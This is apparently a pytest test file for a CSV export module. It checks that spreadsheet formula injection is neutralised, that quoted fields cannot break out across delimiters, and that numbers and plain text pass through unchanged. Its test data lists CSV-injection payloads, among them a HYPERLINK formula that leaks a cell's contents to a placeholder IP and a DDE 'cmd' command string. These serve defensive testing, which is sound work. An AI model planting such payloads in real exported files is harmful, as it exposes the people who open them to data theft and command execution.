"""Cells of a CSV file are text, numbers or nothing: never a formula."""

from __future__ import annotations

import csv
import io
import json

import pytest

from graph.spreadsheet import cell, to_csv, to_csv_bytes

_SIGNS = ["=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20", "\ufe66", "\ufe62", "\ufe63", "\ufe6b", "\u2212"]
_BODIES = ["1+1", 'HYPERLINK("http://192.0.2.1/?"&A1;"here")', "cmd|' /C calc'!A0", "SUM(1;1)*cmd"]
_LEADS = ["\t", "\r", "\n", "\r\n", " ", "\u00a0", "\u200b", "\ufeff", "\x00", "\x1b", "'", '"', '""', "\u3000", " \t "]
FORMULAS = (
    [sign + body for sign in _SIGNS for body in _BODIES]
    + [lead + "=1+1" for lead in _LEADS]
    + ["\tno formula", "\rno formula", "\nno formula"]
    + ["-1+cmd|'x'!A0", "+1-1", "-", "+", "--1", "-1e9999x", "-0x10", "-1,5", "=", "@", "-\u0661", "-1\n=2"]
)
BREAK_OUTS = ['";=1+1;"', '",=1+1,"', '"\n=1+1\n"', "x\n=1+1", "x\r\n=1+1", "x,=1+1", "x;=1+1", "x\t=1+1", 'x",""=1+1']


def test_there_are_at_least_sixty_formula_cells() -> None:
    assert len(set(FORMULAS + BREAK_OUTS)) >= 60


@pytest.mark.parametrize("text", FORMULAS, ids=ascii)
def test_a_formula_becomes_text(text: str) -> None:
    assert cell(text).startswith("'")
    assert cell(text).replace("'", "") == text.replace("'", "").replace("\0", "")


@pytest.mark.parametrize("text", FORMULAS + BREAK_OUTS, ids=ascii)
def test_no_reader_finds_more_cells_than_were_written(text: str) -> None:
    written = to_csv(["before", "hostile", "after"], [{"before": "a", "hostile": text, "after": "b"}])
    found = list(csv.reader(io.StringIO(written, newline="")))
    assert found == [["before", "hostile", "after"], ["a", cell(text), "b"]]
    # Where a spreadsheet of another country splits at ; or tabs, the quoted fields still hold together.
    for separator in (";", "\t"):
        assert not any(
            part.lstrip().startswith(("=", "+", "-", "@"))
            for line in csv.reader(io.StringIO(written, newline=""), delimiter=separator)
            for part in line
        )


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (-1, "-1"),
        (-2.5, "-2.5"),
        (1e300, "1e+300"),
        ("-12", "-12"),
        ("+3.5e-4", "+3.5e-4"),
        (0, "0"),
        (True, "true"),
        (None, ""),
        (10**18, "1000000000000000000"),
    ],
)
def test_numbers_stay_numbers_and_unknown_is_empty(value: object, written: str) -> None:
    assert cell(value) == written


def test_lists_and_maps_are_json() -> None:
    assert json.loads(cell({"a": ["=1", None]})) == {"a": ["=1", None]}


@pytest.mark.parametrize("text", ["OpenAI", "'tis", "a=b", "50 % stake", "1 < 2", "e-mail @ home", "Q&A", "C++"])
def test_plain_text_is_left_as_it_is(text: str) -> None:
    assert cell(text) == text


def test_a_heading_can_be_no_formula_either() -> None:
    assert to_csv(["=1+1"], []) == '"\'=1+1"\r\n'


def test_the_bytes_say_that_they_are_utf_8_and_survive_half_a_character() -> None:
    written = to_csv_bytes(["name"], [{"name": "Zürich"}, {"name": "\ud800"}])
    assert written.startswith(b"\xef\xbb\xbf")
    assert "Zürich" in written.decode("utf-8-sig")
